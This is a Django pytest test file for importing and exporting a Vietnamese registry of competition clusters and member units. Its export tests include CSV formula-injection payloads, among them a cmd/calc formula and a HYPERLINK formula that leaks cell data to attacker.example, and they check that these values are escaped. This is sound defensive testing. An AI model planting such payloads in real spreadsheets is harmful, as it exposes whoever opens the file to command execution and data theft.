import csv
import io

import openpyxl
import pytest
from django.core import mail
from django.core.management import CommandError, call_command

from clusters.models import Cluster, Membership, Organisation, Unit
from clusters.registry_io import registry_export, registry_import
from members.models import Representative
from tests.clusters.registry_files import csv_bytes, registry_row, xlsx_bytes
from tests.factories import make_cluster, make_membership, make_org, make_unit

pytestmark = pytest.mark.django_db

GOOD_ROWS = [
    registry_row("U1", "Hội Luật gia tỉnh", role="Khối trưởng", kind="Khối", cluster="K1",
                 cluster_name="Khối thi đua số 1", rep="Lò Văn A", email="a@laichau.vn"),
    registry_row("U2", "Hội Chữ thập đỏ tỉnh", role="Khối phó", kind="Khối", cluster="K1",
                 cluster_name="Khối thi đua số 1"),
    registry_row("U3", "Hội Người cao tuổi tỉnh", kind="Khối", cluster="K1",
                 cluster_name="Khối thi đua số 1"),
]


def run(org, rows, dry_run=False, name="file.xlsx"):
    return registry_import(organisation=org, content=xlsx_bytes(rows), file_name=name,
                           dry_run=dry_run)


def error_text(report):
    return " | ".join(f"{line}: {' '.join(m)}" for line, m in report.errors)


def test_it_creates_clusters_units_memberships_and_roles():
    org = make_org()
    report = run(org, GOOD_ROWS)
    assert report.ok and report.new == 3
    head = Membership.objects.get(role=Membership.Role.HEAD)
    assert (head.unit.name, head.cluster.kind) == ("Hội Luật gia tỉnh", Cluster.Kind.KHOI)


def test_it_invites_a_new_representative_once_applied(django_capture_on_commit_callbacks):
    org = make_org()
    with django_capture_on_commit_callbacks(execute=True):
        run(org, GOOD_ROWS)
    representative = Representative.objects.get(user__email="a@laichau.vn")
    assert representative.is_designated_voter
    assert [m.to for m in mail.outbox] == [["a@laichau.vn"]]


def test_dry_run_writes_nothing_and_sends_nothing(django_capture_on_commit_callbacks):
    org = make_org()
    with django_capture_on_commit_callbacks(execute=True):
        report = run(org, GOOD_ROWS, dry_run=True)
    assert report.ok and report.new == 3
    assert (Unit.objects.count(), Membership.objects.count(), len(mail.outbox)) == (0, 0, 0)


def test_existing_rows_are_matched_by_code_and_updated():
    org = make_org()
    run(org, GOOD_ROWS)
    renamed = [registry_row("U3", "Hội Người cao tuổi tỉnh Lai Châu", kind="Khối", cluster="K1",
                            cluster_name="Khối thi đua số 1", role="Thành viên")]
    report = run(org, renamed)
    assert (report.new, report.updated) == (0, 1)
    assert Unit.objects.get(code="U3").name == "Hội Người cao tuổi tỉnh Lai Châu"


def test_one_bad_row_writes_nothing_and_names_the_row():
    org = make_org()
    rows = GOOD_ROWS + [registry_row("U4", "Đơn vị 4", role="Chủ tịch", kind="Khối",
                                     cluster="K1", cluster_name="Khối thi đua số 1")]
    report = run(org, rows)
    assert [line for line, _ in report.errors] == [5]
    assert "Chủ tịch" in error_text(report)
    assert (Unit.objects.count(), Cluster.objects.count(), Membership.objects.count()) == (0, 0, 0)


@pytest.mark.parametrize(("row", "fragment"), [
    (registry_row(unit=""), "Mã đơn vị"),
    (registry_row(kind="Nhóm"), "Nhóm"),
    (registry_row(role="Trưởng nhóm"), "Trưởng nhóm"),
    (registry_row(email="not-an-email"), "not-an-email"),
    (registry_row(year=1890), "1890"),
    (registry_row(year="năm nay"), "năm nay"),
    (registry_row(unit="U 1"), "U 1"),
], ids=["missing-cell", "kind", "role", "email", "year-range", "year-text", "code"])
def test_each_malformed_cell_is_reported(row, fragment):
    report = run(make_org(), [row])
    assert [line for line, _ in report.errors] == [2]
    assert fragment in error_text(report)


def test_a_unit_in_two_clusters_the_same_year_is_refused():
    rows = [registry_row("U1", cluster="C1"),
            registry_row("U1", cluster="C2", cluster_name="Cụm thi đua số 2")]
    report = run(make_org(), rows)
    assert [line for line, _ in report.errors] == [3]
    assert "C1" in error_text(report)


def test_two_heads_in_one_cluster_and_year_are_refused_on_both_rows():
    rows = [registry_row("U1", role="Cụm trưởng"),
            registry_row("U2", "Đơn vị 2", role="Cụm trưởng")]
    report = run(make_org(), rows)
    assert [line for line, _ in report.errors] == [2, 3]


def test_a_head_in_the_file_conflicting_with_a_stored_head_is_refused():
    org = make_org()
    cluster = make_cluster(org, code="C1", name="Cụm thi đua số 1")
    make_membership(cluster, make_unit(org, code="OLD"), 2026, Membership.Role.HEAD)
    report = run(org, [registry_row("U1", role="Cụm trưởng")])
    assert "OLD" in error_text(report)


def test_swapping_head_and_deputy_in_one_file_succeeds():
    org = make_org()
    run(org, GOOD_ROWS)
    swapped = [GOOD_ROWS[0][:7] + ["Khối phó", "", ""], GOOD_ROWS[1][:7] + ["Khối trưởng", "", ""]]
    report = run(org, swapped)
    assert report.ok, error_text(report)
    assert Membership.objects.get(role=Membership.Role.HEAD).unit.code == "U2"


def test_a_merged_unit_gets_no_membership_after_the_merge():
    org = make_org()
    successor = make_unit(org, code="NEW")
    merged = make_unit(org, code="U1")
    merged.successor, merged.merged_on = successor, __import__("datetime").date(2025, 7, 1)
    merged.save()
    report = run(org, [registry_row("U1", merged.name, year=2026)])
    assert "01/07/2025" in error_text(report)


def test_a_file_that_is_not_a_spreadsheet_is_refused():
    report = registry_import(organisation=make_org(), content=b"%PDF-1.7 binary",
                             file_name="danh-sach.xlsx", dry_run=False)
    assert "xlsx" in report.file_error and not report.ok


def test_missing_columns_are_named():
    content = xlsx_bytes([["U1", "Đơn vị"]], headers=["Mã đơn vị", "Tên đơn vị"])
    report = registry_import(organisation=make_org(), content=content, file_name="a.xlsx",
                             dry_run=True)
    assert "Mã cụm" in report.file_error


def test_csv_imports_like_xlsx():
    report = registry_import(organisation=make_org(), content=csv_bytes(GOOD_ROWS),
                             file_name="a.csv", dry_run=False)
    assert report.ok and Membership.objects.count() == 3


def test_blank_lines_are_skipped_and_numbering_follows_the_sheet():
    rows = [GOOD_ROWS[0], [None] * 10, registry_row("U9", role="Thủ quỹ")]
    report = run(make_org(), rows)
    assert [line for line, _ in report.errors] == [4]


def test_export_then_import_changes_nothing():
    org = make_org()
    run(org, GOOD_ROWS)
    content = registry_export(organisation=org, file_format="xlsx")
    report = registry_import(organisation=org, content=content, file_name="x.xlsx", dry_run=False)
    assert report.ok and (report.new, report.updated) == (0, 3)


def test_export_escapes_formula_cells():
    org = make_org()
    run(org, [registry_row("U1", "-2+3+cmd|' /C calc'!A0")])
    content = registry_export(organisation=org, file_format="csv").decode("utf-8-sig")
    assert "'-2+3+cmd" in content


def test_command_exits_non_zero_and_lists_rows(tmp_path, capsys):
    org = make_org(code="lc")
    path = tmp_path / "bad.xlsx"
    path.write_bytes(xlsx_bytes(GOOD_ROWS + [registry_row("U5", email="x@")]))
    with pytest.raises(CommandError):
        call_command("import_registry", str(path), "--org", org.code)
    assert "5" in capsys.readouterr().err and Unit.objects.count() == 0


def test_command_create_org_makes_a_new_organisation(tmp_path):
    path = tmp_path / "ok.xlsx"
    path.write_bytes(xlsx_bytes(GOOD_ROWS))
    call_command("import_registry", str(path), "--org", "laichau",
                 "--create-org", "UBND tỉnh Lai Châu")
    assert Organisation.objects.get(code="laichau").units.count() == 3


def test_command_refuses_an_unknown_org_without_create_org(tmp_path):
    path = tmp_path / "ok.xlsx"
    path.write_bytes(xlsx_bytes(GOOD_ROWS))
    with pytest.raises(CommandError, match="--create-org"):
        call_command("import_registry", str(path), "--org", "nope")


def test_command_with_errors_does_not_create_the_organisation(tmp_path):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(xlsx_bytes([registry_row(role="?")]))
    with pytest.raises(CommandError):
        call_command("import_registry", str(path), "--org", "neworg", "--create-org", "Mới")
    assert not Organisation.objects.filter(code="neworg").exists()


HYPERLINK = ' =HYPERLINK("http://attacker.example/?leak="&A1,"Xem")'


def a_unit_named_with_a_formula_behind_a_space():
    org = make_org()
    make_membership(make_cluster(org), make_unit(org, code="U1", name=HYPERLINK), 2025)
    return org


def test_export_escapes_a_formula_behind_a_leading_space_in_csv():
    org = a_unit_named_with_a_formula_behind_a_space()
    content = registry_export(organisation=org, file_format="csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(content)) for c in row]
    assert "'" + HYPERLINK in cells


def test_export_escapes_a_formula_behind_a_leading_space_in_xlsx():
    org = a_unit_named_with_a_formula_behind_a_space()
    content = registry_export(organisation=org, file_format="xlsx")
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(content)).active.values for c in row]
    assert "'" + HYPERLINK in cells


def test_export_command_writes_csv_for_one_year(tmp_path):
    org = make_org(code="lc")
    run(org, GOOD_ROWS + [registry_row("U1", "Hội Luật gia tỉnh", kind="Khối", cluster="K1",
                                       cluster_name="Khối thi đua số 1", year=2025)])
    path = tmp_path / "out.csv"
    call_command("export_registry", str(path), "--org", "lc", "--year", "2025")
    assert path.read_text(encoding="utf-8-sig").count("\n") == 2  # header + one row


def test_an_escaped_cell_imports_back_unchanged():
    org = make_org()
    run(org, [registry_row("U1", "-2+3 Đơn vị")])
    content = registry_export(organisation=org, file_format="csv")
    registry_import(organisation=org, content=content, file_name="x.csv", dry_run=False)
    assert Unit.objects.get(code="U1").name == "-2+3 Đơn vị"


def test_an_import_is_in_the_audit_trail_with_its_actor():
    from auditlog.context import set_actor
    from auditlog.models import LogEntry

    from tests.factories import make_user

    org, user = make_org(), make_user()
    with set_actor(user):
        run(org, GOOD_ROWS)
    entries = LogEntry.objects.filter(content_type__model="membership")
    assert entries.count() == 3 and {e.actor for e in entries} == {user}
    assert entries.filter(additional_data__organisation_id=org.pk).count() == 3


def test_an_update_by_import_records_before_and_after():
    from auditlog.models import LogEntry

    org = make_org()
    run(org, GOOD_ROWS)
    run(org, [GOOD_ROWS[2][:7] + ["Khối phó", "", ""], GOOD_ROWS[1][:7] + ["Thành viên", "", ""]])
    update = LogEntry.objects.filter(action=LogEntry.Action.UPDATE,
                                     content_type__model="membership").first()
    assert update is not None and "role" in update.changes


def test_an_import_after_an_actor_context_has_ended_records_no_stale_actor():
    from auditlog.context import set_actor
    from auditlog.models import LogEntry

    from tests.factories import make_user

    with set_actor(make_user()):
        pass
    run(make_org(), GOOD_ROWS)
    assert not LogEntry.objects.filter(actor__isnull=False).exists()


def test_a_spreadsheet_bomb_is_refused_in_vietnamese_and_nothing_is_written(monkeypatch):
    from core import spreadsheets
    from tests.core.xlsx_files import review_bomb

    monkeypatch.setattr(spreadsheets, "CalamineWorkbook", None)  # never reached
    org = make_org()
    report = registry_import(organisation=org, content=review_bomb(), file_name="bom.xlsx",
                             dry_run=False)
    assert report.file_error_code == "too_large_unpacked"
    assert not Unit.objects.filter(organisation=org).exists()


def test_a_file_over_the_row_limit_is_refused_before_its_rows_are_checked(settings):
    import itertools

    from clusters.registry_io import HEADERS
    from tests.core.xlsx_files import streamed_xlsx

    settings.REGISTRY_IMPORT_MAX_ROWS = 100
    rows = ([f"U{i}", "Đơn vị", "", "C1", "Cụm thi đua số 1", "Cụm", 2026, "Thành viên"]
            for i in range(101))
    report = registry_import(organisation=make_org(), content=streamed_xlsx(
        itertools.chain([HEADERS], rows)), file_name="x.xlsx", dry_run=True)
    assert (report.file_error_code, report.errors) == ("too_many_rows", [])


def test_a_csv_over_the_row_limit_is_refused(settings):
    settings.REGISTRY_IMPORT_MAX_ROWS = 2
    report = registry_import(organisation=make_org(), content=csv_bytes(
        [registry_row(f"U{i}") for i in range(3)]), file_name="x.csv", dry_run=True)
    assert report.file_error_code == "too_many_rows"
